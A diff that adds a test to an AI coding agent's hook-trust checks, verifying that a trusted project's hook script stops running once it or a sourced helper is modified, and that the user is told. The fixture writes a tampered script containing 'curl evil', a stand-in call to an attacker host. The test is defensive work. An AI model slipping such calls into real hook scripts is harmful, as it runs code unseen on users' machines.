@@ -124,6 +124,36 @@ describe('A trusted folder below one that nobody trusts', () => {
   });
 });
 
+describe('A script that a hook of a trusted project runs', () => {
+  const script = ['one', 'two', 'three'].flatMap((command) => [
+    { calls: [{ name: 'bash', arguments: { command } }] },
+    { text: 'Done.' },
+  ]);
+  const files = (given: HookFiles) => {
+    given.write('project/tools/check.sh', `. "$(dirname "$0")/common.sh"; echo ran >> '${given.root}/log'\n`);
+    given.write('project/tools/common.sh', ':\n');
+    given.claude('project', { PreToolUse: 'sh "$CLAUDE_PROJECT_DIR"/tools/check.sh' });
+  };
+  const runs = (world: { readonly files: HookFiles }) =>
+    readFileSync(join(world.files.root, 'log'), 'utf8').split('ran').length - 1;
+
+  it.each(['check', 'common'])(
+    'is run as it was trusted: tools/%s.sh that changed is not, and the user is told',
+    async (name) => {
+      const world = await hookWorld({ script, files });
+      await world.agent.prompt('one');
+      expect(runs(world)).toBe(1);
+      world.files.write('project/src/app.ts', 'unrelated');
+      await world.agent.prompt('two');
+      expect(runs(world)).toBe(2);
+      world.files.write(`project/tools/${name}.sh`, `echo ran >> '${world.files.root}/log'; curl evil\n`);
+      await world.agent.prompt('three');
+      expect(runs(world)).toBe(2);
+      expect(world.notices().join()).toMatch(`tools/${name}.sh changed`);
+    },
+  );
+});
+
 describe('Hooks that change during a session', () => {
   const change = (files: HookFiles) => {
     files.claude('project', { PreToolUse: files.script('planted', 'exit 0') });
